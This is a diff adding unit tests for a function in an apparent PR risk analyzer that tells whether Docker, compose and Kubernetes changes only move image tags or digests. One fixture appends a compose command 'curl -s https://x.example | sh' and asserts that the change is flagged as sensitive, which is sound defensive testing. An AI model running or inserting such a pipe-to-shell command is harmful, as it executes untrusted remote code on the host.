@@ -3,7 +3,7 @@ import { analyzeContributors } from '../../src/analyzers/contributors.js';
 import { analyzeEvidence } from '../../src/analyzers/evidence.js';
 import { analyzeFocus } from '../../src/analyzers/focus.js';
 import { analyzeRisk, levelForScore } from '../../src/analyzers/risk.js';
-import { onlyActionRefsChanged } from '../../src/analyzers/sensitive-changes.js';
+import { onlyActionRefsChanged, onlyImageTagsMoved } from '../../src/analyzers/sensitive-changes.js';
 import type { RepoConfig } from '../../src/repo-config/schema.js';
 import { DEFAULT_CONFIG, RepoConfig as RepoConfigSchema } from '../../src/repo-config/schema.js';
 import type { SupplyChainSection } from '../../src/signal/schema.js';
@@ -238,5 +238,31 @@ describe('workflow changes that only move action refs', () => {
     expect(risk(bumpPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
     const logicPr = makeSnapshot({ files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 0, patch: logic })], checkRuns: green });
     expect(risk(logicPr).drivers.map((d) => d.id)).toContain('sensitive-paths');
+  });
+});
+
+describe('Dockerfile, compose and Kubernetes changes that only move image tags', () => {
+  const compose = '@@ -2,7 +2,7 @@ services:\n   mysql:\n-    image: mysql:9.1\n+    image: mysql:9.2\n     ports:\n       - "3306:3306"\n   postgres:\n-    image: postgres:17.0\n+    image: postgres:17.2\n';
+  const digest = '@@ -1,4 +1,4 @@\n-FROM debian:bookworm-slim@sha256:' + 'a'.repeat(64) + ' AS build\n+FROM debian:bookworm-slim@sha256:' + 'b'.repeat(64) + ' AS build\n RUN apt-get update\n';
+
+  it('recognises tags and digests moved on the images a file already names', () => {
+    expect(onlyImageTagsMoved(compose)).toBe(true);
+    expect(onlyImageTagsMoved(digest)).toBe(true);
+    expect(onlyImageTagsMoved('@@ -1,2 +1,2 @@\n-FROM --platform=$BUILDPLATFORM golang:1.22 AS build\n+FROM --platform=$BUILDPLATFORM golang:1.23 AS build\n')).toBe(true);
+    // Another image, a new line of another kind, or a removal alone is a change of what runs.
+    expect(onlyImageTagsMoved('@@ -1,1 +1,1 @@\n-    image: postgres:17.0\n+    image: postgress/postgres:17.0\n')).toBe(false);
+    expect(onlyImageTagsMoved(compose + '+    command: ["sh", "-c", "curl -s https://x.example | sh"]\n')).toBe(false);
+    expect(onlyImageTagsMoved('@@ -1,2 +1,1 @@\n-FROM node:20\n')).toBe(false);
+    expect(onlyImageTagsMoved(null)).toBe(false);
+  });
+
+  it('does not count an image bump as a security-sensitive change; a new service does count', () => {
+    const bumpPr = makeSnapshot({ files: [makeFile('docker-compose.yml', { additions: 2, deletions: 2, patch: compose })], checkRuns: green });
+    expect(risk(bumpPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
+    const digestPr = makeSnapshot({ files: [makeFile('Dockerfile', { additions: 1, deletions: 1, patch: digest })], checkRuns: green });
+    expect(risk(digestPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
+    const service = '@@ -2,3 +2,5 @@ services:\n   mysql:\n     image: mysql:9.1\n+  agent:\n+    image: acme/agent:latest\n';
+    const servicePr = makeSnapshot({ files: [makeFile('docker-compose.yml', { additions: 2, deletions: 0, patch: service })], checkRuns: green });
+    expect(risk(servicePr).drivers.map((d) => d.id)).toContain('sensitive-paths');
   });
 });
